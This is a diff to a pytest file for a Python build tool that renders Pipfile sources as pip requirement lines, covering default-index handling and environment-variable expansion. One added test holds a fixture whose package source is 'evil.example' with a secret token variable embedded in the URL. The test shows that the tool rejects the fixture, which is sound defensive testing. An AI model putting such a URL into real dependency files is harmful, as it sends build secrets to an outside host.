@@ -371,8 +371,7 @@ def test_pipfile_sources_become_indexes_and_a_package_keeps_its_own(tmp_path: Pa
     app = make_app(tmp_path, {"Pipfile": pipfile, "libs/util/pyproject.toml": ""})
     req = select(app, "pipfile", "Pipfile")
     assert req.render(app).splitlines() == [
-        "--index-url https://pypi.org/simple", "--extra-index-url https://private.example/simple",
-        "mylib", "six",
+        "--extra-index-url https://private.example/simple", "mylib", "six",
     ]  # fmt: skip
     assert req.projects == ["libs/util"]  # a path, never the package "libs/util" of an index
     assert req.lookup_order()[0].startswith("https://private.example/simple (--extra-index-url")
@@ -387,9 +386,31 @@ def test_pipfile_lock_keeps_sources_and_hashes(tmp_path: Path) -> None:
     )
     app = make_app(tmp_path, {"Pipfile": "", "Pipfile.lock": lock})
     assert select(app, "pipfile", "Pipfile").render(app).splitlines() == [
-        "--index-url https://pypi.org/simple", "--extra-index-url https://private.example/simple",
+        "--extra-index-url https://private.example/simple",
         "lib @ git+https://example.org/lib.git@abc123", f"mylib==1.0 --hash={SIX}",
     ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "default", ["https://pypi.org/simple/", "https://pypi.python.org/simple", "${PIP_INDEX_URL}"]
+)
+def test_a_pipfile_naming_the_default_index_uses_the_builders(tmp_path: Path, default: str) -> None:
+    """PyPI by any of its names, or pip's own setting, means the index the builder is
+    configured with (a mirror here), never an index line of its own."""
+    pipfile = f'[[source]]\nname = "pypi"\nurl = "{default}"\n[packages]\nsix = "*"\n'
+    app = make_app(tmp_path, {"Pipfile": pipfile})
+    assert select(app, "pipfile", "Pipfile").render(app).splitlines() == ["six"]
+
+
+def test_no_other_variable_of_the_builder_is_expanded_into_an_index(tmp_path: Path) -> None:
+    pipfile = (
+        '[[source]]\nname = "pypi"\nurl = "https://pypi.org/simple"\n'
+        '[[source]]\nname = "leak"\nurl = "https://evil.example/${SHIPWAY_TOKEN}/simple"\n'
+        '[packages]\nmylib = {version = "*", index = "leak"}\n'
+    )
+    app = make_app(tmp_path, {"Pipfile": pipfile})
+    with pytest.raises(SpecError, match=r"^Pipfile: source leak: environment variables"):
+        select(app, "pipfile", "Pipfile")
 
 
 @pytest.mark.parametrize(
